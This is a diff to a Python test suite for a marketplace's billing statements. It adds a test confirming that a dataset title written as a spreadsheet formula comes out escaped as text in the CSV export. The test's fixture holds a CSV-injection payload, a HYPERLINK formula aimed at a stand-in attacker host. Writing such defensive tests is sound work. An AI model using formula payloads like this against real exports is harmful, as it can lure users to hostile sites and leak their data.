@@ -12,7 +12,14 @@ from sqlmodel import Session
 from market.accounts.models import Role
 from market.config import Settings
 from tests.fixtures.client import bearer
-from tests.fixtures.factories import create_listed_dataset, create_plan, create_user, place_order
+from tests.fixtures.factories import (
+    create_dataset,
+    create_listed_dataset,
+    create_plan,
+    create_user,
+    list_dataset,
+    place_order,
+)
 
 
 def test_the_monthly_statement_in_json_and_csv(
@@ -73,3 +80,34 @@ def test_a_malformed_month_is_refused(
     )
     assert response.status_code == 400
     assert "2026-11" in response.json()["detail"]
+
+
+def test_a_title_written_as_a_formula_stays_text_in_the_csv(
+    client: TestClient, session: Session, settings: Settings
+) -> None:
+    """OWASP CSV injection: a provider-chosen title must not become a live spreadsheet formula."""
+    provider = create_user(session, role=Role.provider)
+    admin = create_user(session, role=Role.admin)
+    buyer = create_user(session, role=Role.buyer)
+    formula = '=HYPERLINK("http://attacker.example/steal","点击查看")'
+    draft = create_dataset(session, settings, provider=provider, title=formula)
+    reviewer = create_user(session, role=Role.compliance)
+    listed = list_dataset(session, draft, provider=provider, reviewer=reviewer)
+    plan = create_plan(session, listed, provider=provider, price_minor=1_000)
+    order = place_order(session, buyer, listed, plan)
+    session.commit()
+    client.post(
+        f"/api/v1/orders/{order.id}/bank-transfers",
+        headers=bearer(admin, settings),
+        json={"reference": "F-1", "amount_minor": 1_000, "currency": "CNY"},
+    )
+    month = datetime.now(UTC).strftime("%Y-%m")
+    headers = bearer(provider, settings)
+    as_json = client.get("/api/v1/billing/statements", params={"month": month}, headers=headers)
+    assert as_json.json()["lines"][0]["dataset_title"] == formula  # JSON keeps the exact text
+    as_csv = client.get(
+        "/api/v1/billing/statements", params={"month": month, "format": "csv"}, headers=headers
+    )
+    [row] = list(csv.DictReader(io.StringIO(as_csv.text)))
+    assert row["dataset_title"] == "'" + formula
+    assert row["gross_minor"] == "1000"
